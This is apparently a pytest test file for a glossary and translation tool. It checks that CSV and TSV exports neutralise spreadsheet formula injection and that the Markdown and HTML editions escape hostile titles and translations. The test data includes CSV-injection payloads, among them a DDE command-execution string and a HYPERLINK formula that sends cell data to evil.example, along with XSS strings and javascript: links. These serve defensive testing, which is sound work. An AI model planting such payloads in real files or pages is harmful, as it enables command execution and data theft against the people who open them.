"""Exports are safe to open: spreadsheet cells never start a formula (CSV injection), and the
Markdown and HTML editions render hostile titles and translations as text, never as HTML."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from markdown_it import MarkdownIt

from sppterm.cli import main
from sppterm.glossary import exports
from sppterm.glossary.imports import read_table
from sppterm.glossary.lint import FORMULA_START
from sppterm.glossary.model import Concept, Glossary, Status, Term
from sppterm.units.po import po_text, read_po

# -- spreadsheet exports ---------------------------------------------------------------------


def _concept(cid: str, zh: str, en: str, **kw) -> Concept:
    terms = [Term(zh, "zh", Status.PREFERRED), Term(en, "en", Status.PREFERRED)]
    terms += kw.pop("extra", [])
    return Concept(cid, "concept", terms, **kw)


HOSTILE = Glossary(
    [
        _concept(
            "formula",
            "=1+1",
            "-2+3",
            extra=[Term("@SUM(1;2)", "en", Status.FORBIDDEN, note='+cmd|" /C calc"!A0')],
            definition='=HYPERLINK("http://evil.example/?"&A1,"click")',
            note="-note",
        ),
        _concept("quoted", "'=已引", "'-quoted", note="'@note"),
        _concept("plain", "普通", "plain, with a comma", definition='say "hi"'),
        _concept("abbr", "+号", "@home", abbr=["=AB"]),
    ]
)


def _cells(fmt: str, text: str) -> list[list[str]]:
    if fmt == "omegat":
        return [line.split("\t") for line in text.splitlines()]
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("fmt", ["csv", "deepl", "omegat"])
def test_no_cell_starts_a_formula(fmt):
    text = {"csv": exports.weblate_csv, "deepl": exports.deepl, "omegat": exports.omegat}[fmt](HOSTILE)
    cells = [c for row in _cells(fmt, text) for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=1+1" in cells and "'-2+3" in cells  # neutralised, not dropped
    assert "''=已引" in cells  # a quote already there gains one, so import can undo exactly one
    assert "plain, with a comma" in cells  # CSV quoting still right


@pytest.mark.parametrize(
    "cell", ["=x", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''-x", "'x", "x=", "", "普通", "'"]
)
def test_neutralise_and_restore_are_inverse(cell):
    out = exports.neutralise(cell)
    assert not out.startswith(FORMULA_START)
    assert exports.restore(out) == cell


@pytest.mark.parametrize("fmt,suffix", [("csv", ".csv"), ("omegat", ".tsv")])
def test_import_of_our_own_export_is_lossless(tmp_path, fmt, suffix):
    text = exports.weblate_csv(HOSTILE) if fmt == "csv" else exports.omegat(HOSTILE)
    path = tmp_path / f"g{suffix}"
    path.write_text(text, "utf-8")
    got = {(t[1], t[2].value) for inc in read_table(path) for t in inc.terms}
    want = {(t.text, t.status.value) for c in HOSTILE for t in c.terms if t.lang == "zh"}
    want |= {(c.en, "preferred") for c in HOSTILE}
    if fmt == "csv":  # the CSV also lists forbidden English
        want |= {("@SUM(1;2)", "forbidden")}
    assert got == want


def _plant_glossary(project: Path) -> None:
    """Hostile free text where lint does not look: a definition and a concept note."""
    path = project / "glossary" / "concepts.yaml"
    text = path.read_text("utf-8")
    assert "\n  - id: " in text or "\n- id: " in text
    text = text.rstrip("\n") + (
        "\n  - id: hostile-probe\n"
        "    type: concept\n"
        "    zh:\n      preferred: 敌意探针\n"
        "    en:\n      preferred: hostile probe\n"
        '    definition: \'=HYPERLINK("http://evil.example/","click") <script>alert(1)</script>\'\n'
        "    note: '@SUM(1+1)*cmd|'' /C calc''!A0 <img src=x onerror=alert(1)>'\n"
    )
    path.write_text(text + "\n", "utf-8")


@pytest.mark.parametrize("fmt", ["csv", "deepl", "omegat"])
def test_cli_exports_of_planted_glossary_start_no_formula(project, fmt):
    _plant_glossary(project)
    r = CliRunner().invoke(main, ["--root", str(project), "glossary", "export", "--format", fmt])
    assert r.exit_code == 0, r.output
    cells = [c for row in _cells(fmt, r.stdout) for c in row]
    assert any("敌意探针" in c for c in cells)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    if fmt != "deepl":  # DeepL exports terms only
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells)


def test_cli_csv_export_reimports_unchanged(project, tmp_path):
    _plant_glossary(project)
    out = tmp_path / "g.csv"
    r = CliRunner().invoke(
        main, ["--root", str(project), "glossary", "export", "--format", "csv", "-o", str(out)]
    )
    assert r.exit_code == 0, r.output
    before = {p.name: p.read_bytes() for p in (project / "glossary").glob("*.yaml")}
    r = CliRunner().invoke(main, ["--root", str(project), "glossary", "import", str(out)])
    assert r.exit_code == 0, r.output
    assert " 0 added" in r.output
    assert {p.name: p.read_bytes() for p in (project / "glossary").glob("*.yaml")} == before


def test_glossary_html_escapes_planted_text(project, tmp_path):
    _plant_glossary(project)
    out = tmp_path / "glossary.html"
    r = CliRunner().invoke(
        main, ["--root", str(project), "glossary", "export", "--format", "html", "-o", str(out)]
    )
    assert r.exit_code == 0, r.output
    html = out.read_text("utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# -- Markdown and HTML editions --------------------------------------------------------------

TITLE = "<img src=x onerror=alert(1)> & &amp; 简报"
HOSTILE_TEXTS = [
    "<script>alert('section')</script>",
    "<img src=x onerror=alert('article')>",
    "# Not a heading <img src=x onerror=alert(2)>",
    "## Not one either &lt;script&gt; &#60;img src=x&#62;",
    "- not a list\n<script>alert(3)</script>\n---\n> not a quote\n1. not ordered\n~~~\n=====",
    "1. not ordered either <iframe src=//evil.example></iframe>",
    '[click](javascript:alert(4)) <a href="javascript:alert(5)">x</a> <b>bold</b> `code`',
    "+ plus <!-- comment --> <?php echo 1; ?> <![CDATA[x]]>",
    "*attribution* <svg onload=alert(6)>",
]
ANCHOR = re.compile(r'<a id="[a-z0-9-]+">(</a>)?\n?|</a>')  # our anchors, whole or as two tokens


@pytest.fixture
def hostile_edition(project: Path) -> Path:
    """2022-04 with a hostile front-matter title and hostile translations, built as a draft."""
    src = project / "source_zh" / "2022-04.md"
    text = src.read_text("utf-8")
    src.write_text(
        text.replace(
            "title: 可持续公共采购计划简报", "title: " + yaml.safe_dump(TITLE).strip().removesuffix("\n...")
        ),
        "utf-8",
    )
    po_path = project / "target_en" / "po" / "2022-04.po"
    po = read_po(po_path)
    for e, hostile in zip(po, HOSTILE_TEXTS, strict=False):
        e.msgstr = hostile
    po_path.write_text(po_text(po), "utf-8")
    r = CliRunner().invoke(main, ["--root", str(project), "build", "--draft", "2022-04"])
    assert r.exit_code == 0, r.output
    return project / "target_en"


def _html_tokens(tokens) -> list[str]:
    out = []
    for t in tokens:
        if t.type in ("html_block", "html_inline"):
            out.append(t.content)
        if t.children:
            out += _html_tokens(t.children)
    return out


def test_markdown_edition_renders_no_raw_html(hostile_edition):
    md_text = (hostile_edition / "2022-04.md").read_text("utf-8")
    mdit = MarkdownIt("commonmark", {"html": True})
    html = mdit.render(md_text).lower()
    for tag in ("<img", "<script", "<iframe", "<svg", "<!--", "<?php", 'href="javascript'):
        assert tag not in html, tag
    # The only raw HTML in the file is our own anchors.
    raw = [c for c in _html_tokens(mdit.parse(md_text)) if not ANCHOR.fullmatch(c)]
    assert raw == []
    # Hostile text comes out as literal text, where it was.
    assert "<h1>&lt;img src=x onerror=alert(1)&gt; &amp; &amp;amp; 简报</h1>" in html
    assert "<p># not a heading &lt;img src=x onerror=alert(2)&gt;</p>" in html
    assert "## not one either &amp;lt;script&amp;gt; &amp;#60;img src=x&amp;#62;" in html
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in html
    assert "<h2>&lt;script&gt;alert(‘section’)&lt;/script&gt;</h2>" in html  # English typeset: curly quotes
    assert "<strong>bold</strong>" in html  # our placeholders still work
    assert "<p>1. not ordered either &lt;iframe" in html
    assert "\n&gt; not a quote\n1. not ordered\n~~~\n=====</p>" in html  # one paragraph
    assert "<p>+ plus &lt;!-- comment --&gt;" in html
    headings = [t.tag for t in mdit.parse(md_text) if t.type == "heading_open"]
    assert headings.count("h1") == 1


def test_markdown_front_matter_keeps_the_title_without_html(hostile_edition):
    md_text = (hostile_edition / "2022-04.md").read_text("utf-8")
    front = md_text.split("---\n")[1]
    assert "<" not in front and "&" not in front
    assert yaml.safe_load(front)["title"] == TITLE


def test_html_edition_renders_no_raw_html(hostile_edition):
    html = (hostile_edition / "2022-04.html").read_text("utf-8").lower()
    for tag in ("<img", "<script", "<iframe", "<svg", "<!--", 'href="javascript'):
        assert tag not in html, tag
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JavaScript:alert(1)", "vbscript:msgbox(1)", "data:text/html,x", "file:///etc"],
)
def test_url_blocks_autolink_only_web_and_mail(url):
    """A renderer without markdown-it's link filter would make any ``<scheme:…>`` a live link."""
    from sppterm.publish.inline import autolink

    permissive = MarkdownIt("commonmark", {"html": True})
    permissive.validateLink = lambda _url: True
    assert "href" not in permissive.render(autolink(url))
    assert 'href="https://example.org/a"' in permissive.render(autolink("https://example.org/a"))
    assert 'href="mailto:a@example.org"' in permissive.render(autolink("mailto:a@example.org"))
